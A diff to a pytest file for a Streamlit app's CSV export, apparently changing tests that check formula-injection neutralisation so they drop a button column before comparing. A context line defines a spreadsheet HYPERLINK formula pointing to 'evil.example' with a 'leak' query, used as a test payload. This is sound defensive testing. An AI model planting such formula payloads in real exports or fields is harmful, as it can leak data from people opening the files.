@@ -15,6 +15,7 @@ import pytest
 from streamlit.runtime.media_file_manager import MediaFileManager
 
 from stemgui.csv_safe import safe_csv
+from stemgui.gui.records import OPEN_COLUMN
 from tests.gui.apptest import logged_in
 
 EVIL = '=HYPERLINK("http://evil.example/?leak","open me")'
@@ -49,7 +50,7 @@ def test_sessions_csv_neutralises_a_formula_name(make_user, deferred):
     user.api.save_model("session", data={"name": name, "projects": [project], "description": "+1+1"})
 
     at = logged_in(user)
-    frame = at.dataframe[0].value
+    frame = at.dataframe[0].value.drop(columns=OPEN_COLUMN)  # the table's buttons, not data
     assert name in set(frame["name"])
     offered = _offered(at, "sessions.csv", deferred)
     assert offered == safe_csv(frame)
@@ -69,7 +70,7 @@ def test_actions_csv_neutralises_a_formula_description_and_keeps_negative_number
     saved = user.api.save_model("action", data=action)["action"]
 
     at = logged_in(user, "pages/actions.py")
-    frame = at.dataframe[0].value
+    frame = at.dataframe[0].value.drop(columns=OPEN_COLUMN)  # the table's buttons, not data
     offered = _offered(at, "actions.csv", deferred)
     assert offered == safe_csv(frame, index=True)
     rows = {row["id"]: row for row in csv.DictReader(io.StringIO(offered.decode()))}
